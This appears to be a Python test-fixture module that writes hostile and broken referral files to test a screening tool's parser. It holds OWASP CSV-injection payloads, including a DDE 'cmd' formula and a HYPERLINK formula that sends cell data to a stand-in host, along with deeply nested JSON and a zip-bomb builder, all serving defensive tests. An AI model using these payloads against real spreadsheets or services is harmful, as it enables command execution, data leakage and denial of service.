"""A corpus of hostile and broken referral files, written at test time (nothing large is
committed). Shared by tests/test_hostile.py (each case: exit code, one sentence, no row lost,
no formula left live) and `scripts/bench hostile` (each case timed).

Each case is a file and what screening it must do: `rows` is the number of referral rows the
file holds (the summary's "rows in" must say so); `stops` names the line the one-sentence
refusal must name when the file cannot be read past it (then nothing is written).
"""

from __future__ import annotations

import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HEADER = "referral_id,diagnosis,prior_lines,note\n"

#: OWASP's CSV-injection payloads, with the variants spreadsheets also run: leading
#: whitespace and invisible characters, line breaks, full-width and small forms.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    " =1+1",
    "\u00a0=1+1",
    "\u200b@SUM(1)",
    "\ufeff=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u3000=1+1",
]


@dataclass
class Case:
    name: str
    text: str | bytes
    rows: int
    """Referral rows in the file (blank rows at the end are not rows)."""
    stops: int | None = None
    """The line a refusal names when the file cannot be read past it."""
    refused: str | None = None
    """What the one-sentence refusal says when the file cannot be read at all."""
    env: dict[str, str] = field(default_factory=dict)
    suffix: str = ".csv"


def _csv(*rows: str) -> str:
    return HEADER + "".join(f"{r}\n" for r in rows)


def cases() -> list[Case]:
    deep = "[" * 1000 + "]" * 1000
    return [
        Case(
            "unterminated-quote",
            _csv("A,DLBCL,2,", 'B,"DLBCL,2,', "C,myeloma,3,", "D,FL,2,"),
            4,
            stops=3,
        ),
        Case("quote-then-text", _csv("A,DLBCL,2,", 'B,"DLBCL"x,2,', "C,FL,2,"), 3, stops=3),
        Case("multi-line-note", _csv('A,DLBCL,2,"line one\nline two"', "B,FL,2,"), 2),
        Case("cell-over-131072", _csv("A,DLBCL,2,", "B," + "x" * 140_000 + ",2,", "C,FL,2,"), 3),
        Case("diagnosis-1mb", _csv("A," + "lymphoma " * 116_000 + ",2,", "B,FL,2,"), 2),
        Case("count-5000-digits", _csv("A,DLBCL," + "9" * 5000 + ",", "B,FL,2,"), 2),
        Case("control-characters", _csv("A\x07\x1b[31m,DLBCL\x0b,2,\x00x", "B,FL,2,"), 2),
        Case(
            "surrogate-bytes",
            b"referral_id,diagnosis\nA,DLBCL\xed\xa0\x80\nB,FL\n",
            2,
            refused="cannot be decoded (utf-8-sig: invalid bytes at offset 29",
        ),
        Case(
            "json-lone-surrogate",
            '[{"diagnosis":"DLBCL\\ud800"},{"diagnosis":"FL"}]',
            2,
            suffix=".json",
        ),
        Case("nul-bytes", b"referral_id,diagnosis\nA,DL\x00BCL\nB,FL\n", 2),
        Case(
            "wide-header",
            ",".join(["diagnosis", *(f"c{n}" for n in range(60))]) + "\nDLBCL\n",
            1,
            stops=1,
            env={"CARTMATCH_MAX_COLUMNS": "50"},
        ),
        Case("stray-cells", _csv("A,DLBCL,2,," + ",x" * 30, "B,FL,2,"), 2),
        Case("only-header", HEADER, 0),
        Case(
            "formulas",
            _csv(
                *(
                    f'"{p.replace(chr(34), chr(34) * 2)}",DLBCL,2,"{p}"'
                    for p in FORMULAS
                    if '"' not in p
                )
            ),
            len(FORMULAS) - 1,
        ),
        Case(
            "json-deep-item",
            json.dumps([{"diagnosis": "FL"}])[:-1] + ',{"diagnosis":' + deep + "}]",
            2,
            suffix=".json",
        ),
        Case(
            "json-big-integer",
            '[{"diagnosis":"DLBCL","prior_lines":' + "9" * 5000 + '},{"diagnosis":"FL"}]',
            2,
            suffix=".json",
        ),
        Case(
            "jsonl-deep-line",
            '{"diagnosis":"FL"}\n{"diagnosis":' + deep + "}\n",
            2,
            suffix=".jsonl",
        ),
        Case(
            "jsonl-not-json",
            '{"diagnosis":"FL"}\nnot json\n{"diagnosis":"DLBCL"}\n',
            3,
            suffix=".jsonl",
        ),
    ]


def write(case: Case, folder: Path) -> Path:
    path = folder / f"{case.name}{case.suffix}"
    if isinstance(case.text, bytes):
        path.write_bytes(case.text)
    else:
        path.write_text(case.text, encoding="utf-8", newline="")
    return path


def zip_bomb(path: Path, megabytes: int) -> Path:
    """A workbook whose sheet inflates to `megabytes` MB (about 1,000 times its size)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b" " * (1 << 20)
            for _ in range(megabytes):
                sheet.write(block)
    return path


__all__ = ["FORMULAS", "Case", "cases", "write", "zip_bomb"]
